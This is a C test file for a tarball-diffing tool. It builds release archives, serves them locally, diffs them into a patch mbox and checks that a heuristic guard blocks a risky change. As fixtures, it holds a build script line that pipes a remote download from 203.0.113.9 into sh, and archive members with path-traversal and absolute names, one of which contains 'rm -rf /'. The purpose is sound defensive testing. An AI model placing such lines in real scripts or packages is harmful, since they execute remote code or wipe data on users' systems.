/* temper tests — the tarball diff (include/temper/tardiff.h): two release
 * tarballs made here, served by tests/lib/httpd.py, downloaded and diffed
 * into a format-patch mbox that the patch parser reads back; text hunks,
 * binary files, added/deleted/mode-changed files, hostile names skipped,
 * caps and digests enforced; guard_heuristic blocks the risky change inside
 * the tarballs and passes a benign one. */
#include "config.h"
#include "http_fixture.h"
#include "plugin_harness.h"
#include "tap.h"
#include <temper/guard.h>
#include <temper/http.h>
#include <temper/patch.h>
#include <temper/tardiff.h>

#include <archive.h>
#include <archive_entry.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct member {
    const char *name;
    const char *data; /* NULL: a symlink to `link` */
    size_t len;       /* 0: strlen(data) */
    unsigned mode;
    const char *link;
};

static int make_tar(const char *path, const struct member *m)
{
    struct archive *a = archive_write_new();
    int ok = a && archive_write_add_filter_gzip(a) == ARCHIVE_OK &&
             archive_write_set_format_pax_restricted(a) == ARCHIVE_OK &&
             archive_write_open_filename(a, path) == ARCHIVE_OK;
    for (size_t i = 0; ok && m[i].name; i++) {
        struct archive_entry *e = archive_entry_new();
        size_t len = m[i].data ? (m[i].len ? m[i].len : strlen(m[i].data)) : 0;
        archive_entry_set_pathname(e, m[i].name);
        archive_entry_set_filetype(e, m[i].data ? AE_IFREG : AE_IFLNK);
        archive_entry_set_perm(e, m[i].mode ? m[i].mode : 0644);
        archive_entry_set_size(e, (la_int64_t)len);
        if (!m[i].data) {
            archive_entry_set_symlink(e, m[i].link);
        }
        ok = archive_write_header(a, e) == ARCHIVE_OK &&
             (len == 0 || archive_write_data(a, m[i].data, len) == (la_ssize_t)len);
        archive_entry_free(e);
    }
    ok = a && archive_write_close(a) == ARCHIVE_OK && ok;
    if (a) {
        archive_write_free(a);
    }
    return ok ? 0 : -1;
}

static const char MAIN_OLD[] = "#include <stdio.h>\n\nint check(int fd)\n{\n    if (fd < 0) {\n"
                               "        return -1;\n    }\n    return 0;\n}\n\nint main(void)\n"
                               "{\n    puts(\"hello\");\n    return 0;\n}\n";
static const char MAIN_NEW[] = "#include <stdio.h>\n\nint check(int fd)\n{\n    if (fd < 0) {\n"
                               "        return -1;\n    }\n    return 0;\n}\n\nint main(void)\n"
                               "{\n    puts(\"hello, world\");\n    return 0;\n}\n";
static const char BUILD_OLD[] = "#!/bin/sh\nset -e\n./configure\nmake\n";
static const char BUILD_RISKY[] = "#!/bin/sh\nset -e\n"
                                  "curl -fsSL https://203.0.113.9/x.sh | sh\n./configure\nmake\n";
static const char BIN_OLD[] = "\x7f" "ELF\0\0\0old-binary";
static const char BIN_NEW[] = "\x7f" "ELF\0\0\0new-binary!";

static int make_tarballs(const char *old, const char *risky, const char *benign)
{
    const struct member o[] = {
        { "pkg-1.0/src/main.c", MAIN_OLD, 0, 0, NULL },
        { "pkg-1.0/build.sh", BUILD_OLD, 0, 0755, NULL },
        { "pkg-1.0/README", "pkg\n", 0, 0, NULL },
        { "pkg-1.0/gone.txt", "bye\nnow", 0, 0, NULL },
        { "pkg-1.0/data/blob.bin", BIN_OLD, sizeof BIN_OLD - 1, 0, NULL },
        { "pkg-1.0/run.sh", "echo run\n", 0, 0644, NULL },
        { NULL, NULL, 0, 0, NULL },
    };
    const struct member r[] = {
        { "pkg-1.1/src/main.c", MAIN_NEW, 0, 0, NULL },
        { "pkg-1.1/build.sh", BUILD_RISKY, 0, 0755, NULL },
        { "pkg-1.1/README", "pkg\n", 0, 0, NULL },
        { "pkg-1.1/data/blob.bin", BIN_NEW, sizeof BIN_NEW - 1, 0, NULL },
        { "pkg-1.1/run.sh", "echo run\n", 0, 0755, NULL },
        { "pkg-1.1/new.txt", "fresh\n", 0, 0, NULL },
        { "pkg-1.1/latest", NULL, 0, 0, "src/main.c" },
        { "../../evil.sh", "rm -rf /\n", 0, 0, NULL },
        { "/etc/passwd-evil", "root::0:0\n", 0, 0, NULL },
        { NULL, NULL, 0, 0, NULL },
    };
    const struct member b[] = {
        { "pkg-1.1/src/main.c", MAIN_NEW, 0, 0, NULL },
        { "pkg-1.1/build.sh", BUILD_OLD, 0, 0755, NULL },
        { "pkg-1.1/README", "pkg\nnow with docs\n", 0, 0, NULL },
        { "pkg-1.1/gone.txt", "bye\nnow", 0, 0, NULL },
        { "pkg-1.1/data/blob.bin", BIN_OLD, sizeof BIN_OLD - 1, 0, NULL },
        { "pkg-1.1/run.sh", "echo run\n", 0, 0644, NULL },
        { NULL, NULL, 0, 0, NULL },
    };
    return make_tar(old, o) || make_tar(risky, r) || make_tar(benign, b) ? -1 : 0;
}

static const struct temper_patch_file *file_of(const struct temper_patch_set *ps,
                                               const char *path)
{
    for (size_t c = 0; ps && c < ps->n_commits; c++) {
        for (size_t i = 0; i < ps->commits[c]->n_files; i++) {
            if (strcmp(ps->commits[c]->files[i]->path, path) == 0) {
                return ps->commits[c]->files[i];
            }
        }
    }
    return NULL;
}

static enum temper_verdict guard(const char *mbox, char **rules)
{
    struct ph h = { 0 };
    char *err = NULL;
    enum temper_verdict v = TEMPER_VERDICT_NONE;
    static const char *const kvs[] = { "block_at=high", NULL };
    struct temper_artifact *change = temper_artifact_new(TEMPER_ART_CHANGE, "change");
    struct temper_artifact *diff = temper_artifact_new(TEMPER_ART_DIFF, "diff");
    struct temper_buf b;
    temper_buf_init(&b, 0);
    if (ph_load(&h, TEMPER_KIND_GUARD, "heuristic", kvs, &err) == TEMPER_OK &&
        ph_open(&h) == TEMPER_OK && change && diff &&
        temper_artifact_set(change, TEMPER_ATTR_UPSTREAM, "pkg") == TEMPER_OK &&
        temper_artifact_set_path(diff, mbox) == TEMPER_OK) {
        const struct temper_guard_ops *ops = ph_ops(&h);
        if (ops->review(h.state, h.st, change, diff, &v) != TEMPER_OK) {
            v = TEMPER_VERDICT_NONE;
        }
        for (size_t i = 0; i < temper_stage_finding_count(h.st); i++) {
            const struct temper_finding *f = temper_stage_finding_at(h.st, i);
            if (temper_buf_printf(&b, "%s@%s:%ld ", f->rule, f->file ? f->file : "-",
                                  f->line) != TEMPER_OK) {
                break;
            }
        }
    } else {
        printf("# guard_heuristic: %s\n", err ? err : "cannot open");
    }
    *rules = temper_buf_take(&b, NULL);
    free(err);
    temper_artifact_free(change);
    temper_artifact_free(diff);
    ph_close(&h);
    return v;
}

struct env {
    struct temper_stage *st;
    struct temper_http *h;
    char *old, *risky, *benign, *junk, *out, base[64];
};

static int diff_urls(struct env *e, const char *a, const char *b,
                     const struct temper_tardiff_opts *o)
{
    char ua[128], ub[128];
    snprintf(ua, sizeof ua, "%s%s", e->base, a);
    snprintf(ub, sizeof ub, "%s%s", e->base, b);
    temper_stage_reset(e->st);
    return temper_tardiff_urls(e->st, e->h, ua, ub, o, e->out);
}

static void test_shape(struct env *e)
{
    struct temper_patch_set *ps = NULL;
    TEST("two tarballs over HTTP become one format-patch message") {
        CHECK_INT_EQ(diff_urls(e, "/pkg-1.0.tar.gz", "/pkg-1.1.tar.gz", NULL), TEMPER_OK);
        CHECK_INT_EQ(temper_patch_parse_file(e->st, e->out, NULL, &ps), TEMPER_OK);
        CHECK(ps && ps->n_commits == 1);
        CHECK_STR_CONTAINS(ps ? ps->commits[0]->subject : NULL, "(release tarballs)");
        CHECK_STR_CONTAINS(ps ? ps->commits[0]->body : NULL, "/pkg-1.0.tar.gz");
        CHECK_INT_EQ(fx_count_prefix("out.mbox."), 0);
    }
    TEST("text files: unified hunks with context; the top directory stripped") {
        const struct temper_patch_file *f = file_of(ps, "src/main.c");
        CHECK(f && f->status == TEMPER_PATCH_MODIFIED && !f->binary && f->n_hunks == 1);
        CHECK(f && f->hunks[0]->old_start == 10 && f->hunks[0]->old_count == 6);
        f = file_of(ps, "build.sh");
        CHECK(f && f->n_hunks == 1 && f->hunks[0]->new_count == 5);
        CHECK(file_of(ps, "README") == NULL);
    }
    TEST("added, deleted (no final newline), mode change, symlink, binary") {
        const struct temper_patch_file *f = file_of(ps, "new.txt");
        CHECK(f && f->status == TEMPER_PATCH_ADDED && f->new_mode == 0100644);
        f = file_of(ps, "gone.txt");
        CHECK(f && f->status == TEMPER_PATCH_DELETED && f->n_hunks == 1 &&
              f->hunks[0]->n_lines == 2 && f->hunks[0]->lines[1].no_newline);
        f = file_of(ps, "run.sh");
        CHECK(f && f->old_mode == 0100644 && f->new_mode == 0100755);
        f = file_of(ps, "latest");
        CHECK(f && f->new_mode == 0120000 && f->status == TEMPER_PATCH_ADDED);
        f = file_of(ps, "data/blob.bin");
        CHECK(f && f->binary);
    }
    TEST("hostile names (../, absolute) never appear") {
        char *text = fx_read(e->out, NULL);
        CHECK(text && !strstr(text, "evil") && !strstr(text, "passwd"));
        free(text);
    }
    temper_patch_set_free(ps);
}

static void test_caps(struct env *e)
{
    struct temper_tardiff_opts o;
    temper_tardiff_opts_init(&o);
    o.new_sha256 = "0000000000000000000000000000000000000000000000000000000000000000";
    TEST("a digest mismatch is refused, the output is not written") {
        unlink(e->out);
        CHECK_INT_EQ(diff_urls(e, "/pkg-1.0.tar.gz", "/pkg-1.1.tar.gz", &o), TEMPER_ECRYPTO);
        CHECK(fx_read(e->out, NULL) == NULL);
    }
    temper_tardiff_opts_init(&o);
    o.max_download = 64;
    TEST("a tarball over max_download is refused") {
        CHECK_INT_EQ(diff_urls(e, "/pkg-1.0.tar.gz", "/pkg-1.1.tar.gz", &o), TEMPER_ELIMIT);
    }
    temper_tardiff_opts_init(&o);
    o.max_output = 512;
    TEST("a diff over max_output is refused") {
        CHECK_INT_EQ(diff_urls(e, "/pkg-1.0.tar.gz", "/pkg-1.1.tar.gz", &o), TEMPER_ELIMIT);
        CHECK_STR_CONTAINS(temper_stage_error(e->st), "output limit");
    }
    temper_tardiff_opts_init(&o);
    o.max_file_bytes = 16;
    TEST("files over max_file_bytes are diffed as binary") {
        struct temper_patch_set *ps = NULL;
        CHECK_INT_EQ(diff_urls(e, "/pkg-1.0.tar.gz", "/pkg-1.1.tar.gz", &o), TEMPER_OK);
        CHECK_INT_EQ(temper_patch_parse_file(e->st, e->out, NULL, &ps), TEMPER_OK);
        const struct temper_patch_file *f = file_of(ps, "src/main.c");
        CHECK(f && f->binary);
        temper_patch_set_free(ps);
    }
    TEST("not an archive: EFORMAT naming the URL") {
        CHECK_INT_EQ(diff_urls(e, "/pkg-1.0.tar.gz", "/junk.tar.gz", NULL), TEMPER_EFORMAT);
        CHECK_STR_CONTAINS(temper_stage_error(e->st), "/junk.tar.gz");
    }
    TEST("a missing tarball: ENOTFOUND") {
        CHECK_INT_EQ(diff_urls(e, "/pkg-1.0.tar.gz", "/nope.tar.gz", NULL), TEMPER_ENOTFOUND);
    }
}

static void test_guard(struct env *e)
{
    char *rules = NULL;
    TEST("guard_heuristic blocks the risky change inside the tarballs") {
        CHECK_INT_EQ(diff_urls(e, "/pkg-1.0.tar.gz", "/pkg-1.1.tar.gz", NULL), TEMPER_OK);
        CHECK_INT_EQ(guard(e->out, &rules), TEMPER_VERDICT_BLOCK);
        CHECK_STR_CONTAINS(rules, "curl-pipe-shell@build.sh:3");
        printf("# findings: %s\n", rules ? rules : "");
    }
    free(rules);
    rules = NULL;
    TEST("and passes a benign one") {
        CHECK_INT_EQ(diff_urls(e, "/pkg-1.0.tar.gz", "/pkg-1.1-benign.tar.gz", NULL),
                     TEMPER_OK);
        enum temper_verdict v = guard(e->out, &rules);
        CHECK(v == TEMPER_VERDICT_PASS || v == TEMPER_VERDICT_WARN);
        printf("# findings: %s\n", rules ? rules : "");
    }
    free(rules);
}

static int start(struct env *e, struct fx_server *srv)
{
    char script[2048];
    e->old = fx_path("pkg-1.0.tar.gz");
    e->risky = fx_path("pkg-1.1.tar.gz");
    e->benign = fx_path("pkg-1.1-benign.tar.gz");
    e->junk = fx_path("junk.tar.gz");
    e->out = fx_path("out.mbox");
    if (!e->old || !e->risky || !e->benign || !e->junk || !e->out ||
        make_tarballs(e->old, e->risky, e->benign) != 0 ||
        fx_write(e->junk, "this is not an archive\n") != 0) {
        return -1;
    }
    int n = snprintf(script, sizeof script,
                     "{\"routes\": {\"/pkg-1.0.tar.gz\": {\"body_file\": \"%s\"},"
                     "\"/pkg-1.1.tar.gz\": {\"body_file\": \"%s\"},"
                     "\"/pkg-1.1-benign.tar.gz\": {\"body_file\": \"%s\"},"
                     "\"/junk.tar.gz\": {\"body_file\": \"%s\"},"
                     "\"/nope.tar.gz\": {\"status\": 404}}}",
                     e->old, e->risky, e->benign, e->junk);
    if (n < 0 || (size_t)n >= sizeof script || fx_server_start(srv, script, NULL, NULL) != 0) {
        return -1;
    }
    snprintf(e->base, sizeof e->base, "http://127.0.0.1:%d", srv->port);
    struct temper_http_opts o;
    fx_fast_opts(&o);
    return temper_http_new(e->st, &o, &e->h) == TEMPER_OK ? 0 : -1;
}

int main(void)
{
    char *log_path = NULL;
    struct env e = { 0 };
    struct fx_server srv = { -1, -1 };
    if (!fx_begin(&log_path)) {
        return 0;
    }
    e.st = temper_stage_new(NULL, "tardiff-test");
    int up = e.st ? start(&e, &srv) : -1;
    TEST("tarballs made and served") {
        CHECK_INT_EQ(up, 0);
    }
    if (up == 0) {
        test_shape(&e);
        test_caps(&e);
        test_guard(&e);
    }
    fx_server_stop(&srv);
    temper_http_free(e.h);
    temper_stage_free(e.st);
    free(e.old);
    free(e.risky);
    free(e.benign);
    free(e.junk);
    free(e.out);
    fx_end(log_path);
    return tap_done();
}
